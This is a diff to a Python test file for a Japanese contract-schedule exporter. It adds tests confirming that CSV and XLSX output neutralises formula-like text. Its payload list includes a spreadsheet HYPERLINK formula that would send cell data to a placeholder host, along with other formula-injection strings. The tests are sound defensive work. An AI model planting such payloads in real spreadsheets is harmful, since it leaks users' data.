@@ -4,9 +4,11 @@ from __future__ import annotations
 
 import csv
 import json
+import zipfile
 from datetime import UTC, date, datetime
 from pathlib import Path
 
+import pytest
 from icalendar import Calendar
 from openpyxl import load_workbook
 
@@ -24,7 +26,18 @@ def records(**contract: object) -> Records:
     return Records(
         contracts=(c,),
         subcontractors=(b.subcontractor(approved=None),),
-        problems=(Problem(Severity.WARNING, "再委託", "N2", "T-001", "承認日がありません"),),
+        problems=(
+            Problem(
+                Severity.WARNING,
+                "再委託",
+                2,
+                "承認日",
+                "T-001",
+                "有限会社架空サポート",
+                "承認日がありません",
+                "N",
+            ),
+        ),
     )
 
 
@@ -54,7 +67,7 @@ def test_json_has_exactly_the_spec_keys() -> None:
             "sheet": "再委託",
             "cell": "N2",
             "contract_id": "T-001",
-            "message": "承認日がありません",
+            "message": "再委託!N2: 承認日がありません",
         }
     ]
     fy = next(s for s in doc["submissions"] if s["timing"] == "fiscal_year")
@@ -162,7 +175,13 @@ def test_xlsx_opens_with_filter_frozen_header_and_file_links(tmp_path: Path) -> 
     assert ws.cell(3, 13).value in (None, "")
     assert ws.column_dimensions["L"].width > ws.column_dimensions["A"].width
     problems = wb["問題"]
-    assert [c.value for c in problems[2]] == ["警告", "再委託", "N2", "T-001", "承認日がありません"]
+    assert [c.value for c in problems[2]] == [
+        "警告",
+        "再委託",
+        "N2",
+        "T-001",
+        "再委託!N2: 承認日がありません",
+    ]
     assert problems.freeze_panes == "A2" and problems.auto_filter.ref
 
 
@@ -211,3 +230,36 @@ def test_ics_uids_are_stable_across_runs_and_a_moved_date(tmp_path: Path) -> Non
     moved_events = {str(e["uid"]): e.decoded("dtstart") for e in _events(moved)}
     assert set(moved_events) == set(uids)
     assert D("2025-04-01") in moved_events.values()
+
+
+# ---- text from the workbook never becomes a formula (issue 13 item 3) ----
+
+EVIL = ('=HYPERLINK("http://example.invalid/?"&A1,"詳細")', "+1+1", "-2+3", "@SUM(1)", "\t=1+1")
+
+
+@pytest.mark.parametrize("text", EVIL)
+def test_csv_neutralises_text_that_starts_like_a_formula(tmp_path: Path, text: str) -> None:
+    """OWASP: a leading ' makes a spreadsheet show the text instead of evaluating it."""
+    r = records(work_name=text)
+    path = tmp_path / "plan.csv"
+    schedule.write_csv(path, plan(r), contracts_of(r))
+    rows = list(csv.DictReader(path.read_text(encoding="utf-8-sig").splitlines(keepends=True)))
+    assert {x["業務名"] for x in rows} == {"'" + text}
+    assert rows[0]["契約番号"] == "T-001"  # ordinary text is left as it is
+
+
+@pytest.mark.parametrize("text", EVIL)
+def test_xlsx_writes_formula_like_text_as_text(tmp_path: Path, text: str) -> None:
+    r = records(work_name=text, contract_id=text if text.startswith("=") else "T-001")
+    problems = [Problem(Severity.WARNING, "契約", 2, "業務名", text, None, text, column="B")]
+    path = tmp_path / "提出予定一覧.xlsx"
+    schedule.write_xlsx(path, plan(r), problems, files={}, contracts=contracts_of(r))
+    with zipfile.ZipFile(path) as z:
+        for name in z.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in z.read(name), name
+    wb = load_workbook(path)
+    cell = wb["提出予定一覧"]["B2"]
+    assert (cell.value, cell.data_type) == (text, "s")
+    assert cell.quotePrefix  # editing the cell in Excel keeps it text too
+    assert wb["問題"]["E2"].value.endswith(text)  # the message quotes the workbook's text
